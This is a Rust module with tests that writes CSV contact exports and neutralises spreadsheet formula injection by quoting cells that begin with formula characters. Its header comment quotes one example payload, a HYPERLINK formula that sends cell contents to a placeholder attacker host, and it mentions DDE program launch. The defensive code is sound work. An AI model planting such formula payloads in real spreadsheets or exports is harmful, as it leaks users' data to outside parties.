//! Writing CSV exports that are safe to open in a spreadsheet.
//!
//! Standard RFC 4180 output (comma, CRLF, quotes only where needed), with
//! one deliberate change: a cell that starts with `=`, `+`, `-`, `@`, a tab
//! or a carriage return gets a leading `'`. Spreadsheet programs treat such
//! a cell as a formula, and contact data comes from outside the firm (web
//! forms, e-mail signatures, imported files): a "name" like
//! `=HYPERLINK("http://evil.example/?"&A1,"Click")` would otherwise run in
//! the accountant's Excel when they open the export, which can leak other
//! cells or, with DDE, start programs. The quote makes the spreadsheet show
//! the text as text. The cost: numbers like `-5` and phone numbers like
//! `+1…` also get the quote, visible in a plain text editor. The importer
//! ([`crate::csv_in::to_contact`]) removes it again, so Kith's exports
//! re-import unchanged.
//!
//! This module must never write anywhere but the `Write` it is given.

use std::borrow::Cow;
use std::io::{self, Write};

use crate::ExportContact;

/// A leading character that makes a spreadsheet evaluate a cell.
fn is_formula_start(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// `cell` as it is safe to put in a spreadsheet: with a leading `'` when it
/// starts with a formula character. A cell that already starts with quotes
/// followed by one gets one more, so [`unescape_formula`] is its exact inverse.
pub fn escape_formula(cell: &str) -> Cow<'_, str> {
    if cell.trim_start_matches('\'').starts_with(is_formula_start) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Undo [`escape_formula`]: drop one leading `'` if quotes and then a
/// formula character start the cell.
pub fn unescape_formula(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.trim_start_matches('\'').starts_with(is_formula_start) => rest,
        _ => cell,
    }
}

/// A CSV writer for exports. Every row must have as many cells as the
/// header; a row of another length is an error (a bug in the caller).
pub struct Writer<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> Writer<W> {
    pub fn new(w: W) -> Self {
        let inner = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .quote_style(csv::QuoteStyle::Necessary)
            .from_writer(w);
        Writer { inner }
    }

    /// Start the file with a UTF-8 byte order mark: without one, Excel reads
    /// a CSV as the Windows code page and shows "MÃ¼ller" for "Müller".
    pub fn with_utf8_bom(mut w: W) -> io::Result<Self> {
        w.write_all(b"\xEF\xBB\xBF")?;
        Ok(Writer::new(w))
    }

    pub fn write_header<S: AsRef<str>>(&mut self, names: &[S]) -> io::Result<()> {
        self.write_row(names)
    }

    pub fn write_row<S: AsRef<str>>(&mut self, cells: &[S]) -> io::Result<()> {
        let cells: Vec<Cow<'_, str>> = cells.iter().map(|c| escape_formula(c.as_ref())).collect();
        self.inner.write_record(cells.iter().map(|c| c.as_bytes())).map_err(io::Error::from)
    }

    pub fn flush(&mut self) -> io::Result<()> {
        self.inner.flush()
    }

    /// Flush and hand back the destination.
    pub fn into_inner(self) -> io::Result<W> {
        self.inner.into_inner().map_err(|e| e.into_error())
    }
}

/// The built-in columns of a contact export, named so that the generic
/// import preset maps each back to its field.
pub const CONTACT_COLUMNS: [&str; 17] = [
    "ID",
    "First Name",
    "Last Name",
    "Email",
    "Phone",
    "Company",
    "Title",
    "Birthday",
    "Time Zone",
    "Source",
    "Street",
    "City",
    "Region",
    "Postal Code",
    "Country",
    "Website",
    "Tags",
];

/// The header of a contact export: [`CONTACT_COLUMNS`], then one column per
/// custom field key.
pub fn contact_header(custom_keys: &[String]) -> Vec<String> {
    CONTACT_COLUMNS.iter().map(|s| s.to_string()).chain(custom_keys.iter().cloned()).collect()
}

/// One contact in the shape of [`contact_header`]. Several e-mails or
/// phones share a cell, separated by `; ` (labels are not kept: vCard
/// export is the lossless one).
pub fn contact_row(c: &ExportContact, custom_keys: &[String]) -> Vec<String> {
    let text = |v: &Option<String>| v.clone().unwrap_or_default();
    let join =
        |values: &[(String, Option<String>)]| values.iter().map(|(v, _)| v.as_str()).collect::<Vec<_>>().join("; ");
    let mut row = vec![
        c.id.to_string(),
        text(&c.first_name),
        text(&c.last_name),
        join(&c.emails),
        join(&c.phones),
        text(&c.company),
        text(&c.title),
        text(&c.birthday),
        text(&c.time_zone),
        text(&c.source),
        text(&c.address.street),
        text(&c.address.city),
        text(&c.address.region),
        text(&c.address.postal_code),
        text(&c.address.country),
        text(&c.website),
        c.tags.join(", "),
    ];
    for key in custom_keys {
        row.push(c.custom.iter().find(|(k, _)| k == key).map(|(_, v)| v.clone()).unwrap_or_default());
    }
    row
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::csv_in::{to_contact, Rows};
    use crate::presets::{default_mapping, Preset};
    use crate::Address;

    fn written(rows: &[&[&str]]) -> String {
        let mut w = Writer::new(Vec::new());
        for row in rows {
            w.write_row(row).unwrap();
        }
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn formulas_are_defused() {
        let out = written(&[&["a", "b", "c", "d", "e"], &["=SUM(A1)", "+1", "-2", "@x", "\tt"]]);
        assert_eq!(out, "a,b,c,d,e\r\n'=SUM(A1),'+1,'-2,'@x,'\tt\r\n");
        assert_eq!(escape_formula("'=x"), "''=x");
        assert_eq!(escape_formula("'hello"), "'hello");
        assert_eq!(escape_formula("a=b"), "a=b");
        for cell in ["=SUM(A1)", "+1", "-2", "@x", "'=x", "''+y", "'plain", "plain", "", "\r"] {
            assert_eq!(unescape_formula(&escape_formula(cell)), cell);
        }
    }

    #[test]
    fn quoting_and_row_length() {
        let out = written(&[&["name", "note"], &["Ada, Countess", "said \"hi\"\nthen left"]]);
        assert_eq!(out, "name,note\r\n\"Ada, Countess\",\"said \"\"hi\"\"\nthen left\"\r\n");
        let mut w = Writer::new(Vec::new());
        w.write_header(&["a", "b"]).unwrap();
        assert!(w.write_row(&["only one"]).is_err());
        let bom = Writer::with_utf8_bom(Vec::new()).unwrap().into_inner().unwrap();
        assert_eq!(bom, b"\xEF\xBB\xBF");
    }

    #[test]
    fn contact_export_reimports() {
        let contact = ExportContact {
            id: kith_domain::new_id(),
            first_name: Some("Ada".into()),
            last_name: Some("Lovelace".into()),
            emails: vec![("ada@example.com".into(), Some("work".into())), ("ada@home.example".into(), None)],
            phones: vec![("+442079460958".into(), None)],
            company: Some("=Analytical Engines".into()),
            birthday: Some("1815-12-10".into()),
            address: Address { city: Some("London".into()), ..Address::default() },
            tags: vec!["vip".into(), "math".into()],
            custom: vec![("score".into(), "-3".into())],
            ..ExportContact::default()
        };
        let keys = vec!["score".to_string()];
        let mut w = Writer::with_utf8_bom(Vec::new()).unwrap();
        w.write_header(&contact_header(&keys)).unwrap();
        w.write_row(&contact_row(&contact, &keys)).unwrap();
        let bytes = w.into_inner().unwrap();
        let mut rows = Rows::new(crate::text::decode_reader(&bytes[..]).unwrap()).unwrap();
        let mut mapping = default_mapping(Preset::Generic, rows.headers());
        mapping.set(17, crate::Target::Custom("score".into()));
        let back = to_contact(&mapping, &rows.next().unwrap().unwrap()).unwrap();
        assert_eq!((back.first_name, back.last_name), (contact.first_name, contact.last_name));
        assert_eq!(back.emails, [("ada@example.com".into(), None), ("ada@home.example".into(), None)]);
        assert_eq!(back.phones, [("+442079460958".into(), None)]);
        assert_eq!(back.company, contact.company);
        assert_eq!(back.birthday, contact.birthday);
        assert_eq!(back.address, contact.address);
        assert_eq!(back.tags, contact.tags);
        assert_eq!(back.custom, contact.custom);
        assert!(back.warnings.is_empty(), "{:?}", back.warnings);
    }
}
